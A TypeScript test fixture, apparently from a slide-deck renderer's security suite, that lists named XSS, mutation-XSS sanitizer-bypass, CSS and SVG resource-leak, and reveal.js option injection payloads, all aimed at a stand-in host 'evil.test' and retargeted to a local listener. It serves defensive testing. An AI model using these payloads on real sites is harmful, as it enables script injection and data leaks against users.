/** A deck that would run a program or send word to another host, by name. */
export interface Attack {
  readonly name: string;
  /** The slide's Markdown, behind a first slide. */
  readonly slide?: string;
  /** Lines of the front matter. */
  readonly front?: string;
  /** Files beside the deck's text. */
  readonly files?: Readonly<Record<string, string>>;
}

/** Stands for the address of another host, and `NAME` for the attack's name, until the attack is aimed. */
const EVIL = 'http://evil.test/';
/** Leaves the attack's name at the other host, and at the page; without a space, for attributes without quotes. */
const RUN = `fetch('${EVIL}');(top.pwned||=[]).push('NAME')`;
const own = `<!doctype html><script>${RUN}</script>`;
const drawing = (content: string, root = '') =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9"${root}>${content}</svg>`;

const HTML: readonly (readonly [string, string])[] = [
  ['script', `<script>${RUN}</script>`],
  ['script-src', `<script src="${EVIL}"></script>`],
  ['script-module', `<script type="module">${RUN}</script>`],
  ['svg-script', `<svg><script>${RUN}</script></svg>`],
  ['img-onerror', `<img src=x alt="" onerror="${RUN}">`],
  ['svg-onload', `<svg onload="${RUN}"></svg>`],
  ['body-onload', `<body onload="${RUN}">`],
  ['details-ontoggle', `<details open ontoggle="${RUN}">x</details>`],
  ['video-onerror', `<video src=x onerror="${RUN}"></video>`],
  ['audio-source', `<audio><source src=x onerror="${RUN}"></audio>`],
  ['input-autofocus', `<input autofocus onfocus="${RUN}">`],
  ['animation-end', `<p style="animation:a 1ms" onanimationend="${RUN}">x</p><style>@keyframes a{}</style>`],
  ['svg-animate-begin', `<svg><animate onbegin="${RUN}" attributeName="x" dur="1s"/></svg>`],
  ['iframe-javascript', `<iframe src="javascript:${RUN}"></iframe>`],
  ['iframe-srcdoc', `<iframe srcdoc="<script>${RUN}</script>"></iframe>`],
  ['iframe-data', `<iframe src="data:text/html,<script>${RUN}</script>"></iframe>`],
  ['iframe-foreign', `<iframe src="${EVIL}"></iframe>`],
  ['iframe-backslash', '<iframe src="/\\evil.test/a"></iframe>'],
  ['iframe-noscheme', '<iframe src="//evil.test/a"></iframe>'],
  ['iframe-lazy', `<iframe data-src="${EVIL}" data-preload></iframe>`],
  ['object', `<object data="${EVIL}"></object>`],
  ['embed', `<embed src="${EVIL}">`],
  ['link-sheet', `<link rel="stylesheet" href="${EVIL}">`],
  ['link-prefetch', `<link rel="prefetch" href="${EVIL}">`],
  ['link-preload', `<link rel="preload" as="image" href="${EVIL}">`],
  ['base', `<base href="${EVIL}"><img src="a.png" alt="">`],
  ['meta-refresh', `<meta http-equiv="refresh" content="0;url=${EVIL}">`],
  ['template-shadow', `<div><template shadowrootmode="open"><img src="${EVIL}"></template></div>`],
  ['noscript', `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`],
  ['xmp', `<xmp><p title="</xmp><img src=x onerror=${RUN}>"></xmp>`],
  [
    'mutation-form',
    `<form><div></form><form><math><mtext></form><form><mglyph><style></math><img src=x onerror="${RUN}">`,
  ],
  ['mutation-svg-style', `<svg><style><a id="</style><img src=x onerror=${RUN}>">`],
  ['mutation-math-style', `<math><style><a id="</style><img src=x onerror=${RUN}>">`],
  [
    'mutation-annotation',
    `<math><annotation-xml encoding="text/html"><style><img title="</style><img src=x onerror=${RUN}>"></style></annotation-xml></math>`,
  ],
  [
    'mutation-foreign',
    `<svg><foreignObject><style><img title="</style><img src=x onerror=${RUN}>"></style></foreignObject></svg>`,
  ],
  [
    'mutation-title',
    `<svg><title><style><img title="</style><img src=x onerror=${RUN}>"></style></title></svg>`,
  ],
  ['mutation-desc', `<svg></p><desc><img src=x onerror="${RUN}"></desc></svg>`],
  ['mutation-comment', `<svg><style><!--</style><a title="--><img src=x onerror=${RUN}>">`],
  ['mutation-select', `<select><style></select><img src=x onerror="${RUN}"></style></select>`],
  ['style-break', `<p style="x:</style><img src=x onerror=${RUN}>">a</p>`],
  ['style-element-break', `<style>p{content:"<\\/style><img src=x onerror=${RUN}>"}</style>`],
  ['style-url', `<p style="background:url(${EVIL})">a</p>`],
  ['style-url-capitals', `<p style="background:URL(${EVIL})">a</p>`],
  ['style-url-escaped', `<p style="background:u\\72l(${EVIL})">a</p>`],
  ['style-url-noscheme', '<p style="background:url(//evil.test/a)">a</p>'],
  ['style-url-no-slashes', '<p style="background:url(https:evil.test/a)">a</p>'],
  ['style-image-set', `<p style="background:image-set('${EVIL}a.png' 1x)">a</p>`],
  ['style-webkit-image-set', `<p style="background:-webkit-image-set(url(${EVIL}) 1x)">a</p>`],
  ['style-cursor', `<p style="cursor:url(${EVIL}),auto">a</p>`],
  ['style-mask', `<p style="mask:url(${EVIL})">a</p>`],
  ['style-list', `<ul style="list-style:url(${EVIL})"><li>a</ul>`],
  ['style-border-image', `<p style="border-image:url(${EVIL})">a</p>`],
  ['style-content', `<p style="content:url(${EVIL})">a</p>`],
  ['style-filter', `<p style="filter:url(${EVIL}#a)">a</p>`],
  ['style-variable', `<p style="--a:url(${EVIL});background:var(--a)">a</p>`],
  ['style-shape', `<p style="float:left;shape-outside:url(${EVIL})">a</p>`],
  ['sheet-import', `<style>@import "${EVIL}";</style>`],
  ['sheet-import-url', `<style>@import url(${EVIL});</style>`],
  ['sheet-import-escaped', `<style>@\\69mport "${EVIL}";</style>`],
  ['sheet-font-face', `<style>@font-face{font-family:a;src:url(${EVIL})}p{font-family:a}</style><p>a</p>`],
  ['sheet-nested', `<style>p{&{background:url(${EVIL})}}</style><p>a</p>`],
  ['sheet-media', `<style>@media all{p{background:url(${EVIL})}}</style><p>a</p>`],
  ['sheet-supports', `<style>@supports (color:red){p{background:url(${EVIL})}}</style><p>a</p>`],
  ['svg-style', `<svg><style>@import "${EVIL}";</style></svg>`],
  ['svg-image', `<svg><image href="${EVIL}" width="9" height="9"/></svg>`],
  ['svg-image-xlink', `<svg><image xlink:href="${EVIL}" width="9" height="9"/></svg>`],
  ['svg-use', `<svg><use href="${EVIL}#a"/></svg>`],
  [
    'svg-feimage',
    `<svg><filter id="f"><feImage href="${EVIL}"/></filter><rect filter="url(#f)" width="9" height="9"/></svg>`,
  ],
  ['svg-fill', `<svg><rect fill="url(${EVIL}#a)" width="9" height="9"/></svg>`],
  ['svg-mask', `<svg><rect mask="url(${EVIL}#a)" width="9" height="9"/></svg>`],
  ['svg-clip', `<svg><rect clip-path="url('${EVIL}#a')" width="9" height="9"/></svg>`],
  ['svg-marker', `<svg><path marker-end="url(${EVIL}#a)" d="M0 0L9 9"/></svg>`],
  ['svg-set-href', `<svg><image><set attributeName="href" to="${EVIL}"/></image></svg>`],
  ['img-srcset', `<img alt="a" srcset="${EVIL}a.png 1x">`],
  ['picture-srcset', `<picture><source srcset="${EVIL}a.png"><img alt="a"></picture>`],
  ['table-background', `<table background="${EVIL}"><tr><td background="${EVIL}">a</table>`],
  ['input-image', `<input type="image" src="${EVIL}">`],
  ['reveal-preview', `<a href="${EVIL}" data-preview-link class="click">a</a>`],
  ['reveal-preview-image', `<a data-preview-image="${EVIL}" class="click">a</a>`],
  ['reveal-preview-video', `<a data-preview-video="${EVIL}" class="click">a</a>`],
  ['reveal-inner-section', `</section><section data-background-iframe="${EVIL}">a</section>`],
  ['reveal-inner-background', `<section data-background-image="${EVIL}">a</section>`],
  ['reveal-options-element', `<div id="reveal-options">{"dependencies":[{"src":"${EVIL}"}]}</div>`],
  ['form', `<form action="${EVIL}"><button class="click">a</button></form>`],
  ['form-backslash', '<form action="/\\evil.test/a"><button class="click">a</button></form>'],
  ['formaction', `<form><button formaction="${EVIL}" class="click">a</button></form>`],
  ['link-javascript', `<a href="javascript:${RUN}" class="click">a</a>`],
  ['link-javascript-tab', `<a href="java&#9;script:${RUN}" class="click">a</a>`],
  ['link-data', `<a href="data:text/html,<script>${RUN}</script>" class="click">a</a>`],
  ['link-ping', `<a href="#/" ping="${EVIL}" class="click">a</a>`],
  ['svg-link', `<svg><a xlink:href="javascript:${RUN}"><text y="9" class="click">a</text></a></svg>`],
];

const NEWER: readonly (readonly [string, string])[] = [
  ['img-onload', `<img src=x.png onerror="${RUN}" onload="${RUN}">`],
  ['img-tab', '<img src="ht&#9;tp://evil.test/a.png" alt="a">'],
  ['img-backslashes', '<img src="\\\\evil.test\\a.png" alt="a">'],
  ['video-poster', `<video poster="${EVIL}a.png"></video>`],
  ['video-src', `<video autoplay muted src="${EVIL}a.mp4"></video>`],
  ['audio-src', `<audio preload="auto" src="${EVIL}a.mp3"></audio>`],
  ['script-address', `<script src="data:text/javascript,${RUN}"></script>`],
  ['svg-script-address', `<svg><script href="data:text/javascript,${RUN}"/></svg>`],
  [
    'svg-foreign-frame',
    `<svg><foreignObject><iframe src="javascript:${RUN}"></iframe></foreignObject></svg>`,
  ],
  ['svg-image-onerror', `<svg><image href="nothing.png" onerror="${RUN}"/></svg>`],
  ['iframe-newline', `<iframe src="java&#10;script:${RUN}"></iframe>`],
  ['iframe-entity', `<iframe src="&#106;avascript:${RUN}"></iframe>`],
  ['iframe-srcdoc-entity', `<iframe srcdoc="&lt;script&gt;${RUN}&lt;/script&gt;"></iframe>`],
  [
    'popover',
    `<button popovertarget="pop" class="click">a</button><p id="pop" popover ontoggle="${RUN}">a</p>`,
  ],
  ['link-modulepreload', `<link rel="modulepreload" href="${EVIL}a.js">`],
  ['link-imagesrcset', `<link rel="preload" as="image" imagesrcset="${EVIL}a.png 1x">`],
  ['style-cross-fade', `<p style="background:-webkit-cross-fade(url(${EVIL}),url(x.png),50%)">a</p>`],
  ['style-scheme-escaped', '<p style="background:url(\'\\68ttp://evil.test/a\')">a</p>'],
  ['style-content-alt', `<p style="content:url(${EVIL})/'a'">a</p>`],
  ['style-image-set-type', `<p style="background:image-set('${EVIL}a.png' type('image/png'))">a</p>`],
  ['sheet-import-layer', `<style>@import url(${EVIL}) layer(a);</style>`],
  ['sheet-import-second', `<style>@layer a;@import "${EVIL}";</style>`],
  ['sheet-import-commented', `<style>/**/@import/**/"${EVIL}";</style>`],
  ['sheet-html-comment', `<style><!--@import "${EVIL}";--></style>`],
  ['sheet-scope', `<style>@scope(p){:scope{background:url(${EVIL})}}</style><p>a</p>`],
  [
    'sheet-keyframes',
    `<style>@keyframes k{from,to{background:url(${EVIL})}}p{animation:k 9s infinite}</style><p>a</p>`,
  ],
  ['sheet-not-closed', `<style>p{background:url("${EVIL}"</style><p>a</p>`],
  ['sheet-before', `<style>p::before{content:url(${EVIL})}</style><p>a</p>`],
  ['markdown-picture', `![a](${EVIL}a.png)`],
  ['markdown-reference', `![a][r]\n\n[r]: ${EVIL}a.png`],
  ['markdown-link', `[a](javascript:${RUN.replaceAll('(', '%28').replaceAll(')', '%29')})`],
  ['markdown-link-entity', `[a](&#106;avascript:${RUN.replaceAll('(', '%28').replaceAll(')', '%29')})`],
  ['markdown-autolink', `<javascript:${RUN}>`],
];

const DIRECTIVES: readonly (readonly [string, string])[] = [
  ['slide-handler', `onclick="${RUN}"`],
  ['slide-style', `style="background:url(${EVIL})"`],
  ['slide-style-break', `style="x:</style><img src=x onerror=${RUN}>"`],
  ['background-image', `data-background-image="${EVIL}a.png"`],
  ['background-image-second', `data-background-image="a.png,${EVIL}a.png"`],
  ['background-video', `data-background-video="${EVIL}a.mp4"`],
  ['background-iframe-program', `data-background-iframe="javascript:${RUN}" data-preload`],
  ['background-iframe', `data-background-iframe="${EVIL}"`],
  ['background-iframe-preloaded', `data-background-iframe="${EVIL}" data-preload="true"`],
  ['background-break', `data-background="x</style><img src=x onerror=${RUN}>.png"`],
  ['background-gradient', `data-background-gradient="url(${EVIL})"`],
];

const FILES: readonly Attack[] = [
  {
    name: 'own-page-in-frame',
    slide: '![x](own.html)\n\n<iframe src="deck/own.html"></iframe>',
    files: { 'own.html': own },
  },
  {
    name: 'own-page-behind',
    slide: '<!-- .slide: data-background-iframe="deck/own.html" data-preload="true" -->\n![x](own.html)',
    files: { 'own.html': own },
  },
  {
    name: 'own-page-in-notes',
    slide: 'a\n\nNote:\n![x](own.html) <iframe src="deck/own.html"></iframe>',
    files: { 'own.html': own },
  },
  {
    name: 'own-drawing-in-frame',
    slide: '![x](own.svg)\n\n<iframe src="deck/own.svg"></iframe>',
    files: { 'own.svg': drawing(`<script>${RUN}</script>`) },
  },
  {
    name: 'own-drawing-style',
    slide: '![x](own.svg)\n\n<iframe src="deck/own.svg"></iframe>',
    files: { 'own.svg': drawing(`<style>@import "${EVIL}";</style>`) },
  },
  {
    name: 'own-drawing-image',
    slide: '![x](own.svg)\n\n<iframe src="deck/own.svg"></iframe>',
    files: { 'own.svg': drawing(`<image href="${EVIL}"/>`) },
  },
  {
    name: 'own-drawing-entity',
    slide: '<iframe src="deck/entity.svg"></iframe>\n\n![x](entity.svg)',
    files: {
      'entity.svg': `<!DOCTYPE svg [<!ENTITY a "<script xmlns='http://www.w3.org/2000/svg'>${RUN}</script>">]>${drawing('&a;')}`,
    },
  },
  {
    name: 'own-drawing-instruction',
    slide: '<iframe src="deck/instruction.svg"></iframe>\n\n![x](instruction.svg)',
    files: { 'instruction.svg': `<?xml-stylesheet type="text/css" href="${EVIL}"?>${drawing('')}` },
  },
  {
    name: 'own-drawing-foreign',
    slide: '<iframe src="deck/foreign.svg"></iframe>\n\n![x](foreign.svg)',
    files: {
      'foreign.svg': drawing(
        `<foreignObject><img xmlns="http://www.w3.org/1999/xhtml" src="${EVIL}a.png"/></foreignObject>`,
      ),
    },
  },
  {
    name: 'own-drawing-prefix',
    slide: '<iframe src="deck/prefix.svg"></iframe>\n\n![x](prefix.svg)',
    files: {
      'prefix.svg': `<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:script>${RUN}</s:script></s:svg>`,
    },
  },
  {
    name: 'own-drawing-html',
    slide: '<iframe src="deck/html.svg"></iframe>\n\n![x](html.svg)',
    files: { 'html.svg': `<script xmlns="http://www.w3.org/1999/xhtml">${RUN}</script>` },
  },
  { name: 'option-dependency', front: `revealOptions:\n  dependencies:\n    - src: "${EVIL}"` },
  {
    name: 'option-own-dependency',
    front: 'revealOptions:\n  dependencies:\n    - src: "deck/own.js"',
    slide: '![x](own.js)',
    files: { 'own.js': RUN },
  },
  {
    name: 'option-parallax',
    front: `revealOptions:\n  parallaxBackgroundImage: "${EVIL}"\n  parallaxBackgroundSize: "9px 9px"`,
  },
  { name: 'theme-import', files: { 'theme.css': `@import "${EVIL}";` } },
  { name: 'theme-import-escaped', files: { 'theme.css': `@\\69mport "${EVIL}";` } },
  { name: 'theme-url', files: { 'theme.css': `.reveal{background:url(${EVIL})}` } },
  { name: 'theme-break', files: { 'theme.css': `p{content:"</style><img src=x onerror=${RUN}>"}` } },
  { name: 'title-break', front: `title: "</title><img src=x onerror=${RUN}>"` },
  { name: 'description-break', front: `description: >-\n  "><img src=x onerror=${RUN}>` },
];

export const ATTACKS: readonly Attack[] = [
  ...[...HTML, ...NEWER].map(([name, slide]) => ({ name, slide })),
  ...DIRECTIVES.map(([name, attributes]) => ({ name, slide: `<!-- .slide: ${attributes} -->\na` })),
  ...FILES,
];

/** An attack with its name in it, against a host that listens: `127.0.0.1:40001`. */
export function aim({ name, slide, front, files }: Attack, host: string): Attack {
  const aimed = (text: string) => text.replaceAll('NAME', name).replace(/evil\.test\/?/g, `${host}/${name}/`);
  return {
    name,
    ...(slide === undefined ? {} : { slide: aimed(slide) }),
    ...(front === undefined ? {} : { front: aimed(front) }),
    ...(files && {
      files: Object.fromEntries(Object.entries(files).map(([path, text]) => [path, aimed(text)])),
    }),
  };
}
